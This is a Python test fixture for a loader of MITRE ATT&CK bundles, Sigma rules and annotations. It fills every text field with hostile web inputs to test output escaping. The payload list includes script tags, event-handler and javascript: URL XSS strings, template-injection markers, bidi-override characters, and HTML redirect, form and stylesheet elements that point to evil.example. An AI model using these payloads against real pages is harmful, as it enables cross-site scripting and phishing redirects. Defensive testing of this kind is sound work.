"""Inputs whose every text attacks the page that shows it: scripts, links, closing tags, bidi marks, long words.

Identifiers, names of relationships, platforms and whatever else joins objects stay as they are, so that all of it is
loaded and shown.
"""

import json
from collections.abc import Callable
from importlib.resources import files
from pathlib import Path
from typing import Any

import yaml

from graph.server.connection import Graph
from loaders.formats import Naming, Source
from loaders.loading import load_source

RELEASE = "enterprise-attack@18.1-sample"
HIT = "window.hit=1"
LONG = "W" * 10_000
ATTACKS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</style></title></textarea><svg onload={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"' onmouseover='{HIT}' onfocus='{HIT}' autofocus='",
    f"`<iframe srcdoc='<script>parent.{HIT}</script>'>`",
    f"[click](javascript:{HIT}) <a href='javascript:{HIT}'>click</a> ![x](javascript:{HIT})",
    f"[click](data:text/html,<script>{HIT}</script>) <javascript:{HIT}>",
    f"[click][a]\n\n[a]: javascript:{HIT}",
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style><img src=//evil.example/x>",
    "<form action=https://evil.example/><input name=q><button>Go</button></form>",
    f"{{{{ 7*7 }}}} {{% raw %}} ${{{HIT}}} <!-- --> --!> ]]> <![CDATA[ <?xml &amp;lt;script&gt;",
    "\u202egnp.exe\u202c \u2066\u2067\u200b\u200e\u200f\ufeff\u00ad\u2028\u2029 zero\u200dwidth",
    "</span></td></tr></table></section></main></html> id=answer",
    '(Citation: <script>) [<b>x</b>](https://evil.example/"onmouseover="' + HIT + ")",
)
"""What strangers could write; `text` gives each field some of it."""


class Texts:
    """Hostile texts, another one each time, so that every attack gets everywhere in turn."""

    def __init__(self) -> None:
        self._at = 0

    def short(self, own: str = "") -> str:
        """Return one attack behind the text that was there."""
        self._at += 1
        return f"{own} {ATTACKS[self._at % len(ATTACKS)]}".strip()

    def whole(self, own: str = "") -> str:
        """Return every attack behind the text that was there."""
        return "\n\n".join([own, *ATTACKS])


def bundle() -> dict[str, Any]:
    """Return the bundled sample with hostile names, descriptions, aliases, channels and references."""
    sample = files("loaders.sample") / "enterprise-attack-18.1-sample.json"
    read: dict[str, Any] = json.loads(sample.read_text("utf-8"))
    texts, seen = Texts(), set[str]()
    for each in read["objects"]:
        if each["type"] in {"x-mitre-collection", "marking-definition", "identity", "x-mitre-matrix"}:
            continue
        _attacked(each, texts, long=each["type"] not in seen)
        seen.add(each["type"])
    return read


def _attacked(each: dict[str, Any], texts: Texts, *, long: bool) -> None:
    each["description"] = texts.whole(
        f"{LONG} {each.get('description', '')}" if long else each.get("description", "")
    )
    if each["type"] == "relationship":
        return
    each["name"] = texts.short(f"{each['name']} {LONG}" if long else each["name"])
    for field in ("aliases", "x_mitre_aliases"):
        if field in each:
            each[field] = [each["name"], *(texts.short(alias) for alias in each[field][1:])]
    for field in ("x_mitre_log_source_references", "x_mitre_log_sources"):
        for log in each.get(field, []):
            log["channel"] = texts.short(log.get("channel", ""))
    for element in each.get("x_mitre_mutable_elements", []):
        element |= {"field": texts.short(element["field"]), "description": texts.whole()}
    each["external_references"] += [
        {"source_name": texts.short("source"), "description": texts.whole(), "url": f"javascript:{HIT}"},
        {"source_name": "long", "description": LONG, "url": f"https://evil.example/{LONG}"},
    ]


def rule(texts: Texts) -> str:
    """Return a Sigma rule that clears the bar and attacks by each of its texts."""
    body = {
        "title": texts.short("Token read by another"),
        "id": "6f0c2a34-51de-4a55-8d27-1f6e0c8b6a99",
        "status": "stable",
        "description": texts.whole(LONG),
        "author": texts.short("somebody"),
        "license": "MIT",
        "references": [f"javascript:{HIT}", f"https://evil.example/{texts.short()}"],
        "date": "2026-03-02",
        "tags": ["attack.credential-access", "attack.t1528"],
        "logsource": {"product": "azure", "service": "auditlogs", "definition": texts.short()},
        "detection": {"selection": {"properties.message": texts.whole()}, "condition": "selection"},
        "falsepositives": [texts.short(), LONG],
        "level": "high",
    }
    return str(yaml.safe_dump(body, allow_unicode=True))


def note(texts: Texts) -> str:
    """Return annotations with a hostile text in every field."""
    body = {
        "format": "attack-annotations/1",
        "attack_domain": "enterprise-attack",
        "attack_version": "18.1",
        "annotations": [
            {
                "id": f"on-{attack_id}",
                "object": {"attack_id": attack_id},
                "author": texts.short("team"),
                "created": "2026-05-23",
                "reviewed": "2026-06-01",
                "status": "reviewed",
                "confidence": "medium",
                "summary": texts.whole(LONG),
                "executive_priority": {"level": "high", "text": texts.whole()},
                "technical_view": texts.whole(),
                "likely_telemetry": [{"text": texts.whole(), "log_source": "azure:signinlogs"}],
                "detection_direction": [{"text": texts.whole()}],
                "mitigation_priorities": [{"text": texts.whole()}],
                "limits": texts.whole(),
                "claims": [{"field": "tactics", "expect": []}],
            }
            for attack_id in ("T1528", "AN0496", "TA0006", "G0016")
        ],
    }
    return str(yaml.safe_dump(body, allow_unicode=True))


def _mapping(texts: Texts) -> str:
    read = json.loads(Path("docs/example/mapping.json").read_text("utf-8"))
    read["metadata"]["author"] = texts.short("author")
    for each in read["mapping_objects"]:
        each["capability_description"] = texts.short(each["capability_description"])
        each["comments"] = texts.whole(LONG)
    return json.dumps(read)


def _detections(texts: Texts) -> str:
    sample = files("loaders.sample") / "sample-detections.yaml"
    read = yaml.safe_load(sample.read_text("utf-8"))
    for each in read["sources"]:
        each["name"] = texts.short(each["name"])
    return str(yaml.safe_dump(read, allow_unicode=True))


def _environment(texts: Texts) -> str:
    read = yaml.safe_load(Path("docs/example/environment.yaml").read_text("utf-8"))
    for each in read["log_sources"]:
        each["note"] = texts.whole(LONG)
    return str(yaml.safe_dump(read, allow_unicode=True))


def load(graph: Graph, folder: Path) -> None:
    """Write the hostile inputs into the folder, and load them."""
    texts = Texts()
    (folder / "bundle.json").write_text(json.dumps(bundle()), "utf-8")
    (folder / "rules").mkdir()
    (folder / "rules" / "rule.yml").write_text(rule(texts), "utf-8")
    written: dict[str, tuple[str, Callable[[Texts], str]]] = {
        "detections": ("detections.yaml", _detections),
        "ctid": ("mapping.json", _mapping),
        "environment": ("environment.yaml", _environment),
        "annotations": ("note.yaml", note),
    }
    load_source(graph, "attack", Source((str(folder / "bundle.json"),)), Naming())
    rules = Source((str(folder / "rules"),), options={"validate": ("splunk",)})
    load_source(graph, "sigma", rules, Naming("ours", "1"))
    for word, (name, made) in written.items():
        (folder / name).write_text(made(texts), "utf-8")
        load_source(graph, word, Source((str(folder / name),)), Naming())
